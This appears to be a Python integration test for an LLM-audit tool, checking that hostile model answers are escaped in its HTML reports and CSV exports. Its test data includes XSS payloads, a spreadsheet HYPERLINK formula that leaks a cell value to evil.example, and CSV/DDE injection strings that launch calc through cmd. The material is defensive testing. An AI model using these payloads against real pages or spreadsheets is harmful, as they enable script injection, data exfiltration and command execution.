"""No answer fails an audit: a local OpenAI-compatible server answers every question with
something hostile (NUL bytes, bidi controls, a lone surrogate, 5 MB, nothing, a bare reasoning
trace, mixed scripts, markup, spreadsheet formulas) and `beacon audit` still exits 0, classifies
every answer, renders each as inert visible text, exports it, and seals a folder that
`beacon verify` finds intact."""

from __future__ import annotations

import hashlib
import re
import subprocess
import sys
import threading

import pandas as pd
import pytest

from beacon_pipelines.report.exports import FORMULA_PREFIX, NUL_MARKER
from beacon_pipelines_tests.conftest import cli_env, default_catalog_dict, write_catalog
from beacon_pipelines_tests.support.openai_server import FakeOpenAIServer

MODEL = "llama3.2-1b"
QUESTIONS = ("math_basic", "geography_basic", "identity", "tiananmen_1989", "taiwan_status")
ANSWERED = {"substantive", "refusal", "partial_refusal"}
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
HUGE = "The answer goes on. " * 250_000  # 5 MB
HOSTILE = {
    "nul_rlo": "Paris\x00 is the capital \u202eecnarF fo\u202c of France.\x00",
    "bidi": "\u2066isolated\u2069 \u2067right to left\u2069 \u2068first strong\u2069 mark\u200f.",
    # The server's json.dumps sends it as the escape "\\ud800", as a broken encoder would.
    "surrogate": "A lone \ud800 surrogate sits in this answer about history.",
    "huge": HUGE,
    "empty": "",
    "trace_unclosed": "<think>The user asks about this; I should consider whether to answer",
    "trace_closed": "<think>Weighing what to say about this question.</think>",
    "mixed": "答案是 مرحبا بالعالم Hello 👋🏽 ne\u0301e\u0301 Z\u0351\u0352a\u0353l\u0354g\u0355o",
    "script": "<script>alert(1)</script> is what I say.",
    "breakout": '"><img src=x onerror=alert(1)> and </textarea><svg onload=alert(2)>',
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answer")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
}
NAMES = list(HOSTILE)


class HostileAnswers:
    """The server's answers: each distinct request (system prompt, question) gets the next
    hostile answer, in arrival order, and keeps it when asked again; with at least as many
    requests as answers, every answer is served."""

    def __init__(self):
        self.given: dict[tuple[str, str], str] = {}
        self._lock = threading.Lock()

    def __call__(self, payload: dict) -> str:
        key = (payload["messages"][0]["content"], payload["messages"][-1]["content"])
        with self._lock:
            name = self.given.setdefault(key, NAMES[len(self.given) % len(NAMES)])
        return HOSTILE[name]


def beacon(*argv, env, cwd) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "beacon_pipelines.cli", *argv],
        env=env, cwd=cwd, capture_output=True, text=True, timeout=600,
    )  # fmt: skip


@pytest.mark.integration
@pytest.mark.parametrize("store", ["sqlite", "postgres"])
def test_an_audit_of_hostile_answers_exits_0_and_renders_and_exports_them(
    tmp_path, request, store
):
    """On Postgres too, whose text refuses a NUL: the store escapes it (stored_text.py)."""
    store_env = {}
    if store == "postgres":
        store_env["BEACON_STORE_URL"] = request.getfixturevalue("pg_url")
    # One model x three regions x five questions: 15 requests for the 14 hostile answers.
    questions = [q for q in default_catalog_dict()["questions"] if q["id"] in QUESTIONS]
    catalog = write_catalog(tmp_path / "catalog.yaml", questions=questions)
    answers = HostileAnswers()
    out = tmp_path / "out"
    with FakeOpenAIServer(models=[MODEL], answer=answers) as server:
        env = cli_env(tmp_path / "home", BEACON_SIGNING_KEY="hostile-e2e-key", **store_env)
        done = beacon(
            "audit", "--samples", "1", "--backend", "openai", "--catalog", str(catalog),
            "--models", MODEL, "--openai-base-url", server.base_url,
            "--audit-id", "hostile-e2e", "--out", str(out),
            env=env, cwd=tmp_path,
        )  # fmt: skip
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert len(answers.given) == 3 * len(QUESTIONS) and set(answers.given.values()) == set(NAMES)

    # Every answer was recorded succeeded, and exported exactly: NUL bytes and bidi controls
    # included, the surrogate, which no UTF-8 file can hold, as U+FFFD.
    executions = pd.read_parquet(out / "executions.parquet")
    assert len(executions) == len(answers.given) and set(executions["status"]) == {"succeeded"}
    exported = {text.replace("\ud800", "\ufffd"): name for name, text in HOSTILE.items()}
    by_cell = {  # a response not exactly as sent would be a KeyError here
        (row.region, row.question_id): exported[row.response] for row in executions.itertuples()
    }
    assert set(by_cell.values()) == set(NAMES)
    # ... while the store kept the surrogate: its hash is that of the text the server sent.
    sent = HOSTILE["surrogate"].encode("utf-8", "surrogatepass")
    assert hashlib.sha256(sent).hexdigest() in set(executions["response_sha256"])

    # The analysis classed every answer: the empty ones as technical failures (which its
    # per-question classes leave out), every other one as an answer of some kind.
    analysis = pd.read_csv(out / "analysis.csv", keep_default_na=False)
    assert len(analysis) == len(QUESTIONS)
    classes = {
        (question, region): cls
        for question, cell in zip(analysis["question_id"], analysis["classes"], strict=True)
        for region, cls in (pair.split("=") for pair in cell.split(";") if pair)
    }
    for (region, question), name in by_cell.items():
        if name == "empty":
            assert (question, region) not in classes
        else:
            assert classes[(question, region)] in ANSWERED, (name, classes.get((question, region)))
    page = (out / "report.html").read_text(encoding="utf-8")
    answers_page = (out / f"answers-{MODEL}.html").read_text(encoding="utf-8")
    badges = re.findall(r"<span class='cls (\w+)'", answers_page)  # one per answer card
    assert len(badges) == len(by_cell)
    assert badges.count("technical_failure") == list(by_cell.values()).count("empty") > 0
    for html_text in (page, answers_page):
        assert "<script>alert" not in html_text and "<img src=x" not in html_text
        assert not set(BIDI) & set(html_text), "a raw bidi control reached the page"
        assert "\x00" not in html_text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in answers_page
    assert "[U+202E]" in answers_page and "[U+2066]" in answers_page  # shown, not obeyed
    assert "[U+0000]" in answers_page and "A lone \ufffd surrogate" in answers_page
    assert "答案是 مرحبا بالعالم Hello 👋🏽" in answers_page

    # executions.csv round-trips with pandas: formulas carry the neutralising quote, a NUL is
    # its marker, everything else is as the model wrote it.
    csv = pd.read_csv(out / "executions.csv", keep_default_na=False)
    from_csv = {by_cell[(r.region, r.question_id)]: r.response for r in csv.itertuples()}
    for name in ("hyperlink", "plus", "at", "minus"):
        assert from_csv[name] == FORMULA_PREFIX + HOSTILE[name], name
    assert from_csv["nul_rlo"] == HOSTILE["nul_rlo"].replace("\x00", NUL_MARKER)
    for name in ("bidi", "huge", "empty", "trace_unclosed", "trace_closed", "mixed", "script",
                 "breakout"):
        assert from_csv[name] == HOSTILE[name], name

    intact = beacon("verify", str(out), env=env, cwd=tmp_path)
    assert intact.returncode == 0 and "signature: valid" in intact.stdout, intact.stdout
